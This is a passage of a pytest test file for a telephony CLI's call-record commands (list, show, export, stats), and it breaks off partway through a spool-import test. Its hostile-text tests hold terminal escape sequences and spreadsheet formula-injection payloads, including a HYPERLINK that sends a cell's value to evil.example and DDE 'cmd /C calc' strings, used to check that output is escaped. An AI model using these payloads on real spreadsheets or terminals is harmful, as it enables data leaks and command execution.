"""`python -m telephony calls ...` as an operator runs it, on SQLite and PostgreSQL.

Commands run in-process through `telephony.operator.cli.main` (fast); one test runs the real
`python -m telephony` to prove the module entry point. Times are shown in local time, so
every test runs in a fixed zone two hours east of UTC (TZ=TST-2, no DST).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from telephony.domain.settings import PROJECT_ROOT, SETTING_NAMES, read_settings
from telephony.operator.cli import calls as calls_command
from telephony.operator.cli import main
from telephony.operator.cli.metrics import percentile
from telephony.records import webhook
from telephony.records.model import CallRecord, Outcome, ToolCallRecord, Turn, TurnLatency, Usage
from telephony.records.spool import spool_path
from telephony.records.store import CallStore

LOCAL = timezone(timedelta(hours=2))
TZ = "TST-2"  # POSIX: the zone TST is UTC+2


def at(day: int, hour: int, minute: int) -> float:
    """A moment in May 2024, local time (UTC+2)."""
    return datetime(2024, 5, day, hour, minute, tzinfo=LOCAL).timestamp()


# ------------------------------------------------------------------ the calls


def call_a() -> CallRecord:
    """Inbound, completed with a goodbye: four measured agent turns, two tool calls."""
    s = at(1, 9, 30)
    return CallRecord(
        record_id="rec-a",
        call_id="SCL_a",
        job_id="AJ_a",
        room="call-_+15105550101_a1",
        direction="inbound",
        remote_number="+15105550101",
        local_number="+17075550000",
        trunk_id="ST_in",
        agent_name="acme-agent",
        started_at=s,
        answered_at=s + 1,
        ended_at=s + 95,
        outcome=Outcome.COMPLETED,
        transcript=[
            Turn("assistant", "Thanks for calling Acme, how can I help?", s + 2),
            Turn("user", "Hi, I'd like to check my order.", s + 6),
            Turn("assistant", "Sure, what is the order number?", s + 8, interrupted=True),
            Turn("user", "It's 4 4 1 7.", s + 12),
            Turn("assistant", "Order 4417 ships tomorrow. Anything else?", s + 15),
            Turn("user", "No, thanks, bye.", s + 88),
            Turn("assistant", "Goodbye!", s + 90),
        ],
        tool_calls=[
            ToolCallRecord("lookup_order", '{"order": "4417"}', "ships 2024-05-02", False, s + 13),
            ToolCallRecord("end_call", "{}", "ending the call", False, s + 90),
        ],
        latency=[
            TurnLatency(at=s + 2, llm_ttft=0.3, tts_ttfb=0.2),  # the greeting
            TurnLatency(s + 8, 0.45, 0.12, 0.5, 0.25, 1.3),
            TurnLatency(s + 15, 0.6, 0.2, 0.9, 0.3, 1.9),
            TurnLatency(s + 90, 0.5, 0.1, 0.4, 0.15, 1.1),
        ],
        usage=Usage(1834, 96, 412, 88.5),
    )


def call_b() -> CallRecord:
    """Outbound, nobody answered: no SIP call id, so tables show the record id."""
    s = at(2, 14, 0)
    return CallRecord(
        record_id="rec-b",
        job_id="AJ_b",
        room="outbound-b",
        direction="outbound",
        remote_number="+15105550102",
        local_number="+17075550000",
        trunk_id="ST_out",
        agent_name="acme-agent",
        job_metadata='{"phone_number": "+15105550102"}',
        started_at=s,
        ended_at=s + 30,
        outcome=Outcome.NO_ANSWER,
        sip_status_code=480,
        sip_status="Temporarily Unavailable",
    )


def call_c() -> CallRecord:
    """Outbound, answered, transferred to sales."""
    s = at(3, 11, 15)
    return CallRecord(
        record_id="rec-c",
        call_id="SCL_c",
        job_id="AJ_c",
        room="outbound-c",
        direction="outbound",
        remote_number="+15105550103",
        local_number="+17075550000",
        trunk_id="ST_out",
        agent_name="acme-agent",
        job_metadata='{"phone_number": "+15105550103"}',
        started_at=s,
        answered_at=s + 5,
        ended_at=s + 125,
        outcome=Outcome.TRANSFERRED,
        transfer_to="tel:+16285552222",
        transcript=[
            Turn("user", "Hello?", s + 6),
            Turn("assistant", "Hi, this is Acme calling about your quote.", s + 7),
            Turn("user", "Can I talk to sales?", s + 18),
            Turn("assistant", "Of course, transferring you now.", s + 20),
        ],
        tool_calls=[
            ToolCallRecord(
                "transfer_call", '{"destination": "sales"}', "transferring", False, s + 21
            )
        ],
        latency=[
            TurnLatency(s + 7, 0.4, 0.1, 0.7, 0.35, 1.6),
            TurnLatency(s + 20, None, None, 0.6, 0.3, 1.2),
        ],
        usage=Usage(950, 40, 120, 100.0),
    )


def call_d() -> CallRecord:
    """Inbound from the same caller as A, who hung up; a tool call failed."""
    s = at(3, 16, 45)
    return CallRecord(
        record_id="rec-d",
        call_id="SCL_d",
        job_id="AJ_d",
        room="call-_+15105550101_d4",
        direction="inbound",
        remote_number="+15105550101",
        local_number="+17075550000",
        trunk_id="ST_in",
        agent_name="acme-agent",
        started_at=s,
        answered_at=s + 1,
        ended_at=s + 20,
        outcome=Outcome.CALLER_HUNG_UP,
        transcript=[
            Turn("assistant", "Thanks for calling Acme.", s + 2),
            Turn("user", "Where is order 9?", s + 5),
        ],
        tool_calls=[ToolCallRecord("lookup_order", '{"order": "9"}', "no such order", True, s + 7)],
        latency=[TurnLatency(at=s + 2, llm_ttft=0.35, tts_ttfb=0.4)],
    )


def call_e() -> CallRecord:
    """Outbound, busy."""
    s = at(4, 10, 0)
    return CallRecord(
        record_id="rec-e",
        job_id="AJ_e",
        room="outbound-e",
        direction="outbound",
        remote_number="+15105550104",
        local_number="+17075550000",
        trunk_id="ST_out",
        agent_name="acme-agent",
        started_at=s,
        ended_at=s + 8,
        outcome=Outcome.BUSY,
        sip_status_code=486,
        sip_status="Busy Here",
    )


def call_f() -> CallRecord:
    """A web call (no phone numbers), completed."""
    s = at(4, 18, 20)
    return CallRecord(
        record_id="rec-f",
        job_id="AJ_f",
        room="web-f",
        direction="web",
        agent_name="acme-agent",
        started_at=s,
        answered_at=s + 0.5,
        ended_at=s + 60.5,
        outcome=Outcome.COMPLETED,
        transcript=[Turn("assistant", "Hello from the web!", s + 1)],
        latency=[
            TurnLatency(at=s + 1, llm_ttft=0.55, tts_ttfb=0.45),
            TurnLatency(s + 10, 0.3, 0.05, 0.65, 0.5, 1.4),
        ],
    )


def call_g() -> CallRecord:
    """A job rejected for bad metadata: it never dialed."""
    s = at(5, 8, 0)
    return CallRecord(
        record_id="rec-g",
        job_id="AJ_g",
        room="outbound-g",
        agent_name="acme-agent",
        job_metadata='{"phone_number": "555"}',
        started_at=s,
        ended_at=s + 0.2,
        outcome=Outcome.REJECTED_METADATA,
        error="phone_number '555' is not an E.164 number",
    )


def all_calls() -> list[CallRecord]:
    return [call_a(), call_b(), call_c(), call_d(), call_e(), call_f(), call_g()]


NEWEST_FIRST = ["rec-g", "rec-f", "rec-e", "rec-d", "rec-c", "rec-b", "rec-a"]


# ------------------------------------------------------------------ fixtures and helpers


@pytest.fixture(autouse=True)
def local_time_zone() -> Iterator[None]:
    before = os.environ.get("TZ")
    os.environ["TZ"] = TZ
    time.tzset()
    try:
        yield
    finally:
        if before is None:
            del os.environ["TZ"]
        else:
            os.environ["TZ"] = before
        time.tzset()


@pytest.fixture
def database(record_store_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """DATABASE_URL names an empty store (SQLite, and PostgreSQL when configured)."""
    monkeypatch.setenv("DATABASE_URL", record_store_url)
    return record_store_url


@pytest.fixture
def calls(database: str, record_store: CallStore) -> list[CallRecord]:
    """The seven calls above, saved; A is queued for the webhook."""
    records = all_calls()
    for record in records:
        record_store.save(record, queue_webhook=record.record_id == "rec-a")
    return records


@dataclass
class Result:
    code: int
    out: str
    err: str

    @property
    def lines(self) -> list[str]:
        """Output lines with runs of spaces squeezed, for matching table rows."""
        return [" ".join(line.split()) for line in self.out.splitlines()]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> Result:
    code = main(["calls", *argv])
    out, err = capsys.readouterr()
    return Result(code, out, err)


def listed_ids(result: Result) -> list[str]:
    """The last column (call id, else record id) of a `calls list` table, mapped to record ids."""
    by_call_id = {r.call_id: r.record_id for r in all_calls() if r.call_id}
    rows = result.lines[1:]
    assert result.lines[0].startswith("started direction remote number outcome duration SIP")
    return [by_call_id.get(row.split()[-1], row.split()[-1]) for row in rows if row[:1].isdigit()]


# ------------------------------------------------------------------ the percentile helper


def test_percentile_interpolates_between_the_nearest_ranks() -> None:
    assert percentile([], 50) is None
    assert percentile([0.7], 90) == 0.7
    assert percentile([0.4, 0.1, 0.3, 0.2], 50) == pytest.approx(0.25)
    assert percentile([0.1, 0.2, 0.3, 0.4], 90) == pytest.approx(0.37)
    assert percentile([1, 2, 3], 0) == 1 and percentile([1, 2, 3], 100) == 3


# ------------------------------------------------------------------ an empty store


def test_an_empty_store(database: str, capsys: pytest.CaptureFixture[str]) -> None:
    result = run(capsys, "list")
    assert result.code == 0
    assert result.out.startswith("no calls recorded yet")

    assert run(capsys, "list", "--outcome", "busy").out.startswith("no calls recorded yet")
    assert json.loads(run(capsys, "list", "--json").out) == []

    result = run(capsys, "stats")
    assert (result.code, result.out.startswith("no calls recorded yet")) == (0, True)
    stats = json.loads(run(capsys, "stats", "--json").out)
    assert stats["total"] == 0 and stats["answer_rate"] is None

    result = run(capsys, "show", "SCL_nothing")
    assert result.code == 1
    assert "no call with id SCL_nothing" in result.err

    result = run(capsys, "export", "--format", "csv")
    assert result.code == 0
    (header,) = csv.reader(io.StringIO(result.out))  # the header, no rows
    assert header[:3] == ["record_id", "call_id", "job_id"]
    assert run(capsys, "export", "--format", "jsonl").out == ""


# ------------------------------------------------------------------ list


def test_list_is_newest_first_in_local_time(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    result = run(capsys, "list")
    assert result.code == 0, result.err
    assert listed_ids(result) == NEWEST_FIRST
    rows = dict(zip(NEWEST_FIRST, result.lines[1:], strict=True))
    assert rows["rec-a"] == "2024-05-01 09:30 inbound +15105550101 completed 1:35 - SCL_a"
    assert rows["rec-b"] == "2024-05-02 14:00 outbound +15105550102 no-answer 0:30 480 rec-b"
    assert rows["rec-f"] == "2024-05-04 18:20 web - completed 1:00 - rec-f"
    assert rows["rec-g"] == "2024-05-05 08:00 - - rejected-metadata 0:00 - rec-g"


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (["--outcome", "completed"], ["rec-f", "rec-a"]),
        (["--direction", "outbound"], ["rec-e", "rec-c", "rec-b"]),
        (["--direction", "web"], ["rec-f"]),
        (["--since", "2024-05-03"], ["rec-g", "rec-f", "rec-e", "rec-d", "rec-c"]),
        # A date alone includes that whole (local) day.
        (["--until", "2024-05-02"], ["rec-b", "rec-a"]),
        (["--since", "2024-05-03", "--until", "2024-05-03"], ["rec-d", "rec-c"]),
        # Naive times are local; an offset is honoured (10:00 UTC is 12:00 here).
        (["--since", "2024-05-03T12:00"], ["rec-g", "rec-f", "rec-e", "rec-d"]),
        (["--since", "2024-05-03T10:00:00Z"], ["rec-g", "rec-f", "rec-e", "rec-d"]),
        (["--until", "2024-05-03 11:15"], ["rec-b", "rec-a"]),
        (["--number", "+15105550101"], ["rec-d", "rec-a"]),
        (["--number", "+17075550000", "--direction", "inbound"], ["rec-d", "rec-a"]),
        (["--outcome", "no-answer", "--direction", "outbound"], ["rec-b"]),
    ],
)
def test_list_filters(
    calls: list[CallRecord],
    capsys: pytest.CaptureFixture[str],
    filters: list[str],
    expected: list[str],
) -> None:
    result = run(capsys, "list", *filters)
    assert result.code == 0, result.err
    assert listed_ids(result) == expected


def test_list_limit_says_when_more_match(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    result = run(capsys, "list", "--limit", "2")
    assert listed_ids(result) == ["rec-g", "rec-f"]
    assert "more match" in result.out

    result = run(capsys, "list", "--limit", "7")
    assert listed_ids(result) == NEWEST_FIRST
    assert "more match" not in result.out


def test_list_when_nothing_matches(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    result = run(capsys, "list", "--outcome", "voicemail")
    assert (result.code, result.out.strip()) == (0, "no calls match these filters")


def test_list_active_shows_the_calls_in_progress_with_their_time_so_far(
    calls: list[CallRecord],
    record_store: CallStore,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert run(capsys, "list", "--active").out.strip() == "no calls in progress"
    started = at(6, 10, 0)
    # The clock reads two minutes and five seconds after the answer.
    monkeypatch.setattr(calls_command.time, "time", lambda: started + 125)
    record_store.save(
        CallRecord(
            record_id="rec-up",
            call_id="SCL_up",
            direction="inbound",
            remote_number="+15105550199",
            started_at=started,
            answered_at=started,
            outcome=Outcome.IN_PROGRESS,
        )
    )
    result = run(capsys, "list", "--active")
    assert result.code == 0, result.err
    (row,) = result.lines[1:]
    assert row.split()[2:6] == ["inbound", "+15105550199", "in-progress", "2:05"]
    assert row.split()[-1] == "SCL_up"

    result = run(capsys, "list", "--active", "--outcome", "completed")
    assert result.code != 0
    assert "--active lists the calls in progress: drop --outcome" in result.err


def test_list_json_is_the_records(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    result = run(capsys, "list", "--direction", "outbound", "--json")
    records = [CallRecord.from_dict(d) for d in json.loads(result.out)]
    assert records == [call_e(), call_c(), call_b()]


# ------------------------------------------------------------------ show


def test_show_header_transcript_tools_latency_usage_and_webhook(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    result = run(capsys, "show", "rec-a")
    assert result.code == 0, result.err
    lines = result.lines
    for expected in [
        "record id rec-a",
        "call id SCL_a",
        "job id AJ_a",
        "room call-_+15105550101_a1",
        "direction inbound",
        "remote number +15105550101",
        "local number +17075550000",
        "trunk ST_in",
        "agent acme-agent",
        "started 2024-05-01 09:30:00+02:00",
        "answered 2024-05-01 09:30:01+02:00 (+0:01)",
        "ended 2024-05-01 09:31:35+02:00 (+1:35)",
        "duration 1:35 (talk 1:34)",
        "outcome completed",
        # The transcript: offset from the start, role, text; interrupted turns marked.
        "0:02 assistant Thanks for calling Acme, how can I help?",
        "0:06 user Hi, I'd like to check my order.",
        "0:08 assistant Sure, what is the order number? [interrupted]",
        "1:30 assistant Goodbye!",
        # Tool calls.
        "0:13 lookup_order",
        'arguments: {"order": "4417"}',
        "output: ships 2024-05-02",
        "1:30 end_call",
        # Latency per turn in ms, then the percentiles of each column.
        "at EOU delay transcription LLM TTFT TTS TTFB speech -> audio",
        "0:02 - - 300 200 -",
        "0:08 450 120 500 250 1300",
        "p50 500 120 450 225 1300",
        "p90 580 184 780 285 1780",
        # Usage and the webhook.
        "LLM tokens 1834 in, 96 out",
        "TTS 412 characters",
        "STT 88.5 s of audio",
    ]:
        assert expected in lines, f"{expected!r} not in:\n{result.out}"
    assert "pending: not tried yet" in result.out


def test_show_finds_a_call_by_sip_call_id_or_job_id(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    by_record = run(capsys, "show", "rec-a").out
    assert run(capsys, "show", "SCL_a").out == by_record
    assert run(capsys, "show", "AJ_a").out == by_record


def test_show_a_failed_dial_and_a_failed_tool(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    lines = run(capsys, "show", "AJ_b").lines
    assert "answered not answered" in lines
    assert "SIP status 480 Temporarily Unavailable" in lines
    assert 'job metadata {"phone_number": "+15105550102"}' in lines
    assert "Transcript: none" in lines and "Latency: no agent turns measured" in lines
    assert "not queued (no CALL_WEBHOOK_URL when it was saved)" in lines

    lines = run(capsys, "show", "rec-d").lines
    assert "0:07 lookup_order [error]" in lines
    assert "output: no such order" in lines

    lines = run(capsys, "show", "rec-c").lines
    assert "transferred to tel:+16285552222" in lines

    lines = run(capsys, "show", "rec-g").lines
    assert "error phone_number '555' is not an E.164 number" in lines


def test_show_json_is_the_record(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    result = run(capsys, "show", "SCL_c", "--json")
    assert CallRecord.from_dict(json.loads(result.out)) == call_c()


def test_show_unknown_id(calls: list[CallRecord], capsys: pytest.CaptureFixture[str]) -> None:
    result = run(capsys, "show", "SCL_unknown")
    assert result.code == 1
    assert result.err.strip() == "error: no call with id SCL_unknown"
    assert result.out == ""


def test_show_delivered_and_failed_webhooks(
    calls: list[CallRecord], record_store: CallStore, capsys: pytest.CaptureFixture[str]
) -> None:
    record_store.mark_delivery_failed("rec-a", error="HTTP 503", retry_at=at(6, 12, 0))
    out = run(capsys, "show", "rec-a").out
    assert "pending: 1 failed attempt(s), next attempt at 2024-05-06 12:00:00+02:00" in out
    assert "last error: HTTP 503" in out

    record_store.mark_delivered("rec-a", at=at(6, 12, 1))
    out = run(capsys, "show", "rec-a").out
    assert "delivered at 2024-05-06 12:01:00+02:00 after 1 failed attempt(s)" in out


# ------------------------------------------------------------------ hostile text


# What a terminal would obey: clear the screen, retitle the window, ring, CSI in 8 bits,
# show the rest of the line reversed.
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"
RAW_CONTROLS = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


def hostile_call() -> CallRecord:
    """A call whose every text field carries terminal control sequences."""
    record = call_a()
    record.record_id = "rec-h"
    record.call_id = "SCL_h" + ESCAPES
    record.agent_name = "agent" + ESCAPES
    record.job_metadata = '{"name": "' + ESCAPES + '"}'
    record.error = "boom" + ESCAPES
    record.transcript = [
        Turn("user", "first line\nsecond" + ESCAPES, record.started_at + 3),
        Turn("assistant", "\rOK" + ESCAPES, record.started_at + 4),
    ]
    record.tool_calls = [
        ToolCallRecord(
            "lookup" + ESCAPES,
            '{"x": "' + ESCAPES + '"}',
            "out" + ESCAPES,
            False,
            record.started_at + 5,
        )
    ]
    return record


def test_show_and_list_print_control_sequences_as_visible_escapes(
    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
) -> None:
    record_store.save(hostile_call(), queue_webhook=True)
    record_store.mark_delivery_failed("rec-h", error="HTTP 500" + ESCAPES, retry_at=None)

    shown = run(capsys, "show", "rec-h")
    listed = run(capsys, "list")

    for result in (shown, listed):
        assert result.code == 0, result.err
        assert not RAW_CONTROLS.findall(result.out)
    visible = "\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202e"
    for expected in (
        f"Call SCL_h{visible}",
        f"agent agent{visible}",
        f"error boom{visible}",
        f"last error: HTTP 500{visible}",
        f"0:05 lookup{visible}",
        f"output: out{visible}",
        "0:03 user first line",  # line breaks in a turn keep the layout
        f"second{visible}",
        f"0:04 assistant \\x0dOK{visible}",
    ):
        assert expected in shown.lines, f"{expected!r} not in:\n{shown.out}"
    assert f"SCL_h{visible}" in listed.out


def test_json_output_escapes_what_json_dumps_leaves_raw(
    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
) -> None:
    record_store.save(hostile_call())

    outputs = [
        run(capsys, "show", "rec-h", "--json").out,
        run(capsys, "list", "--json").out,
        run(capsys, "export", "--format", "jsonl").out,
    ]

    for out in outputs:
        assert not RAW_CONTROLS.findall(out)
        assert "\\u202e" in out and "\\u009b" in out
    (listed,) = json.loads(outputs[1])
    for data in (json.loads(outputs[0]), listed, json.loads(outputs[2])):
        assert CallRecord.from_dict(data) == hostile_call()  # the same data, escaped


def test_export_csv_on_a_terminal_escapes_controls_and_a_file_keeps_them(
    database: str,
    record_store: CallStore,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    record_store.save(hostile_call())
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)

    on_screen = run(capsys, "export", "--format", "csv")
    run(capsys, "export", "--format", "csv", "--output", str(tmp_path / "calls.csv"))

    assert not RAW_CONTROLS.findall(on_screen.out.replace("\r\n", "\n"))
    (row,) = csv.DictReader(io.StringIO(on_screen.out))
    assert row["call_id"] == "SCL_h\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202e"
    with (tmp_path / "calls.csv").open(encoding="utf-8", newline="") as f:
        (row,) = csv.DictReader(f)
    assert row["call_id"] == "SCL_h" + ESCAPES  # the file has the data as it is


# ------------------------------------------------------------------ export


def test_export_csv_one_row_per_call(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    result = run(capsys, "export", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert [row["record_id"] for row in rows] == NEWEST_FIRST
    assert "exported 7 calls" in result.err
    a = next(row for row in rows if row["record_id"] == "rec-a")
    assert a == {
        "record_id": "rec-a",
        "call_id": "SCL_a",
        "job_id": "AJ_a",
        "room": "call-_+15105550101_a1",
        "direction": "inbound",
        "remote_number": "'+15105550101",  # text in a spreadsheet, not 1.51E+10
        "local_number": "'+17075550000",
        "trunk_id": "ST_in",
        "agent_name": "acme-agent",
        "started_at": "2024-05-01T07:30:00.000Z",
        "answered_at": "2024-05-01T07:30:01.000Z",
        "ended_at": "2024-05-01T07:31:35.000Z",
        "duration_seconds": "95.0",
        "talk_seconds": "94.0",
        "outcome": "completed",
        "transfer_to": "",
        "sip_status_code": "",
        "sip_status": "",
        "error": "",
        "turns": "7",
        "tool_calls": "2",
        "llm_ttft_p50_ms": "450",
        "e2e_p50_ms": "1300",
        "llm_prompt_tokens": "1834",
        "llm_completion_tokens": "96",
        "tts_characters": "412",
        "stt_audio_seconds": "88.5",
    }
    b = next(row for row in rows if row["record_id"] == "rec-b")
    assert (b["answered_at"], b["talk_seconds"], b["sip_status_code"]) == ("", "", "480")
    assert (b["llm_ttft_p50_ms"], b["e2e_p50_ms"]) == ("", "")
    assert datetime.fromisoformat(a["started_at"]).timestamp() == call_a().started_at


FORMULAS = {
    "call_id": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "room": "@SUM(1+1)*cmd|' /C calc'!A0",
    "trunk_id": "-2+3+cmd|' /C calc'!A0",
    "agent_name": "\t=1+1",
    "sip_status": "\r=1+1",
    "error": "  =1+1",  # blanks first: some programs trim them
}


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def test_export_csv_cells_a_spreadsheet_would_evaluate_stay_text(
    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
) -> None:
    # A `;` splitting spreadsheet would start a cell after the `;`, unless it is quoted.
    inner = {"transfer_to": "sip:x;=1+1", "record_id": "rec-x"}
    hostile = CallRecord(**{**call_b().__dict__, **FORMULAS, **inner})
    record_store.save(hostile)

    result = run(capsys, "export", "--format", "csv")

    assert result.code == 0, result.err
    (row,) = csv.DictReader(io.StringIO(result.out))
    for column, payload in FORMULAS.items():
        assert row[column] == "'" + payload  # the value, marked as text
    assert row["transfer_to"] == "sip:x;=1+1"
    assert row["remote_number"] == "'+15105550102"
    assert (row["duration_seconds"], row["sip_status_code"]) == ("30.0", "480")  # numbers
    cells = [cell for line in csv.reader(io.StringIO(result.out)) for cell in line]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    assert '"sip:x;=1+1"' in result.out  # quoted: a `;` cannot split it


def test_export_jsonl_round_trips(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str]
) -> None:
    result = run(capsys, "export", "--format", "jsonl")
    exported = [CallRecord.from_dict(json.loads(line)) for line in result.out.splitlines()]
    by_id = {r.record_id: r for r in calls}
    assert [r.record_id for r in exported] == NEWEST_FIRST
    assert exported == [by_id[r.record_id] for r in exported]


def test_export_filters_limit_and_output_file(
    calls: list[CallRecord], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "outbound.csv"
    result = run(
        capsys, "export", "--format", "csv", "--direction", "outbound", "--output", str(target)
    )
    assert result.code == 0, result.err
    assert result.out.strip() == f"exported 3 calls to {target}"
    with target.open(newline="") as f:
        assert [row["record_id"] for row in csv.DictReader(f)] == ["rec-e", "rec-c", "rec-b"]

    result = run(capsys, "export", "--format", "jsonl", "--limit", "2")
    assert [json.loads(line)["record_id"] for line in result.out.splitlines()] == NEWEST_FIRST[:2]


# ------------------------------------------------------------------ stats


def test_stats_for_known_calls(calls: list[CallRecord], capsys: pytest.CaptureFixture[str]) -> None:
    stats = json.loads(run(capsys, "stats", "--json").out)
    assert stats["total"] == 7
    assert stats["by_outcome"] == {
        "completed": 2,
        "caller-hung-up": 1,
        "transferred": 1,
        "no-answer": 1,
        "busy": 1,
        "rejected-metadata": 1,
    }
    # Answered: A, C, D, F. Tried to connect: all but the rejected job G.
    assert (stats["answered"], stats["tried_to_connect"]) == (4, 6)
    assert stats["answer_rate"] == pytest.approx(4 / 6, abs=1e-4)
    assert stats["mean_duration_seconds"] == pytest.approx((95 + 125 + 20 + 60.5) / 4)
    assert stats["mean_talk_seconds"] == pytest.approx((94 + 120 + 19 + 60) / 4)
    # LLM TTFT over all 9 turns: .3 .35 .4 .5 .55 .6 .65 .7 .9 -> p50 = .55, p90 = .7 + .2 * .2
    # TTS TTFB: .15 .2 .25 .3 .3 .35 .4 .45 .5 -> p50 = .3, p90 = .45 + .2 * .05
    # end of speech -> first audio over 6 turns: 1.1 1.2 1.3 1.4 1.6 1.9 -> 1.35, 1.75
    assert stats["latency_ms"] == {
        "llm_ttft": {"p50": 550.0, "p90": 740.0, "turns": 9},
        "tts_ttfb": {"p50": 300.0, "p90": 460.0, "turns": 9},
        "end_of_speech_to_first_audio": {"p50": 1350.0, "p90": 1750.0, "turns": 6},
    }

    result = run(capsys, "stats")
    assert result.code == 0, result.err
    lines = result.lines
    assert "completed 2" in lines and "rejected-metadata 1" in lines and "total 7" in lines
    assert "answer rate: 66.7% (4 answered of 6 that tried to connect)" in lines
    assert "mean duration (answered calls) 1:15" in lines
    assert "mean talk time (answered calls) 1:13" in lines
    assert "LLM TTFT 550 740 9" in lines
    assert "TTS TTFB 300 460 9" in lines
    assert "end of speech -> first audio 1350 1750 6" in lines


def test_stats_filters(calls: list[CallRecord], capsys: pytest.CaptureFixture[str]) -> None:
    stats = json.loads(run(capsys, "stats", "--direction", "outbound", "--json").out)
    assert (stats["total"], stats["answered"], stats["tried_to_connect"]) == (3, 1, 3)
    assert stats["mean_duration_seconds"] == 125 and stats["mean_talk_seconds"] == 120
    assert stats["latency_ms"]["llm_ttft"] == {"p50": 650.0, "p90": 690.0, "turns": 2}

    stats = json.loads(run(capsys, "stats", "--since", "2024-05-04", "--json").out)
    assert stats["by_outcome"] == {"completed": 1, "busy": 1, "rejected-metadata": 1}
    assert (stats["answered"], stats["tried_to_connect"]) == (1, 2)

    result = run(capsys, "stats", "--since", "2024-06-01")
    assert (result.code, result.out.strip()) == (0, "no calls match these filters")


# ------------------------------------------------------------------ bad arguments and settings


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["calls", "list", "--outcome", "hung-up"], "invalid choice: 'hung-up'"),
        (["calls", "list", "--direction", "sideways"], "invalid choice: 'sideways'"),
        (["calls", "list", "--since", "yesterday"], "'yesterday' is not a date"),
        (["calls", "stats", "--until", "2024-13-01"], "'2024-13-01' is not a date"),
        (["calls", "list", "--number", "5105550101"], "is not a valid phone number"),
        (["calls", "list", "--limit", "0"], "'0' is not a whole number from 1 to"),
        (["calls", "list", "--since", "2024-05-03", "--until", "2024-05-01"], "earlier than"),
        (["calls", "export"], "the following arguments are required: --format"),
        (["calls", "export", "--format", "xml"], "invalid choice: 'xml'"),
        (["calls", "show"], "the following arguments are required: id"),
        (["calls", "frobnicate"], "invalid choice: 'frobnicate'"),
        (["calls"], "the following arguments are required: COMMAND"),
        (["nonsense"], "invalid choice: 'nonsense'"),
        ([], "the following arguments are required: COMMAND"),
    ],
)
def test_bad_arguments_are_usage_errors(
    capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    assert main(argv) == 2
    out, err = capsys.readouterr()
    assert "usage: python -m telephony" in err
    assert message in err
    assert out == ""


@pytest.mark.parametrize("command", ["list", "show", "export", "stats", "import-spool", "deliver"])
def test_every_command_has_help_with_examples(
    capsys: pytest.CaptureFixture[str], command: str
) -> None:
    assert main(["calls", command, "--help"]) == 0
    out = capsys.readouterr().out
    assert f"usage: python -m telephony calls {command}" in out
    assert f"examples:\n  python -m telephony calls {command}" in out


def test_settings_problems_are_listed_one_a_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", "mysql://root:hunter22@db/calls")
    monkeypatch.setenv("CALL_WEBHOOK_URL", "ftp://hooks.example.com")
    result = run(capsys, "list")
    assert result.code == 2
    problems = [line for line in result.err.splitlines() if line.startswith("  - ")]
    assert len(problems) == 3  # the database URL, the webhook URL, the missing secret
    assert any("DATABASE_URL must be a PostgreSQL URL" in p for p in problems)
    assert "hunter22" not in result.err + result.out


def test_an_unreachable_database_is_one_line_without_the_password(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgresql://u:secretpw@127.0.0.1:9/x")
    for argv in (["list"], ["show", "SCL_a"], ["stats"], ["export", "--format", "csv"]):
        result = run(capsys, *argv)
        assert result.code == 1
        assert result.err.startswith("error: cannot reach the call records database at ")
        assert result.err.rstrip().endswith(": check DATABASE_URL")
        assert len(result.err.strip().splitlines()) == 1
        assert "secretpw" not in result.err + result.out
        assert "Traceback" not in result.err


# ------------------------------------------------------------------ import-spool


def spool_lines(*records: CallRecord, malformed_at: int | None = None) -> str:
    lines = [json.dumps(r.to_dict()) for r in records]
    if malformed_at is not None:
        # A line cut short, as when the agent died mid-write.
        lines.insert(malformed_at - 1, json.dumps(call_e().to_dict())[:80])
    return "\n".join(lines) + "\n\n"


def test_import_spool_imports_every_whole_record_and_sets_aside_a_torn_line(
    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
) -> None:
    spool = spool_path(read_settings())
    spool.parent.mkdir(parents=True, exist_ok=True)
    content = spool_lines(call_a(), call_b(), malformed_at=2)
    spool.write_text(content)

